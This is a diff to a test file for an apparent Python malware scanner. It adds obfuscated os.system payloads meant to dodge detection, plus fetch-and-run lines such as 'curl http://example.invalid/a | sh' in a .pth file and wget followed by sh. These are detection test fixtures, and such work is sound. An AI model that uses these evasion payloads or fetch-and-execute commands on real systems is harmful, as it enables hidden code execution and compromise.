@@ -1,4 +1,5 @@
 import { expect, it } from 'vitest';
+import { scanBytes } from '../../testing/configs.ts';
 import { alarms, rulesOf, scanText } from '../../testing/workspace.ts';
 
 const b64 = (text: string): string => Buffer.from(text).toString('base64');
@@ -23,6 +24,17 @@ const PAYLOADS: Record<string, string> = {
   'loaded modules': 'import sys\nsys.modules["os"].system("id")',
   globals: 'globals()["__builtins__"].exec("import os\\nos.system(\'id\')")',
   'letters of other alphabets': 'import os\nｏｓ.ｓｙｓｔｅｍ("id")',
+  'a lambda that is called at once': '(lambda o: o.system("id"))(__import__("os"))',
+  'globals as a dictionary': 'globals()["__builtins__"]["exec"](__import__("zlib").decompress(b"x"))',
+  'a dictionary of functions': 'import os\nrun = {"a": os.system}\nrun["a"]("id")',
+  methodcaller: 'import operator, os\noperator.methodcaller("system", "id")(os)',
+  attrgetter: 'import operator, os\noperator.attrgetter("system")(os)("id")',
+  'every class there is': '().__class__.__base__.__subclasses__()[104].load_module("os").system("id")',
+  'a method of a method': 'import os\nos.system.__call__("id")',
+  'an annotation': 'import os\ndef f(x: os.system("id")) -> None: pass',
+  'an annotation of what is returned': 'import os\ndef f() -> os.system("id"): pass',
+  'a file that is fetched':
+    'import subprocess, sys\nsubprocess.run(["curl", "-s", "http://example.invalid/a", "-o", "/tmp/a"])\nsubprocess.Popen([sys.executable, "/tmp/a"])',
   'exec of base64': `import base64\nexec(base64.b64decode("${HIDDEN}"))`,
   'exec of base64 by name': `d = __import__("base64").b64decode\ncode = d("${HIDDEN}").decode()\nexec(compile(code, "x", "exec"))`,
   'exec of numbers': 'exec("".join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))',
@@ -251,4 +263,21 @@ it('finds secrets and tricks in the text itself', () => {
   expect(rulesOf('x.py', 'import os\nos.path.exists(open("/home/a/.aws/credentials").read())\n')).toEqual([
     'python.credential-file',
   ]);
+});
+
+it('reads UTF-16, and the lines of a .pth file that run', () => {
+  const text = 'import os\nos.system("curl http://example.invalid/a | sh")\n';
+  const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+  expect(scanBytes('configuration_x.py', wide).verdict).toBe('malicious');
+  expect(alarms('a.pth', '/some/path\nimport os; os.system("curl http://example.invalid/a | sh")\n')).toEqual([
+    'high python.hostile-command',
+  ]);
+  expect(alarms('distutils-precedence.pth', "import os; var = 'X'; os.environ.get(var)\n")).toEqual([]);
+});
+
+it('tells what is fetched and run as the file is loaded from a setup that a person starts', () => {
+  const lines =
+    'subprocess.run(["wget", "http://example.org/get.sh", "-O", "get.sh"])\n    subprocess.run(["sh", "get.sh"])\n';
+  expect(alarms('setup_env.py', `import subprocess\ndef main():\n    ${lines}`)).toEqual([]);
+  expect(alarms('__init__.py', `import subprocess\nif True:\n    ${lines}`)).toEqual(['high python.fetched-code']);
 });
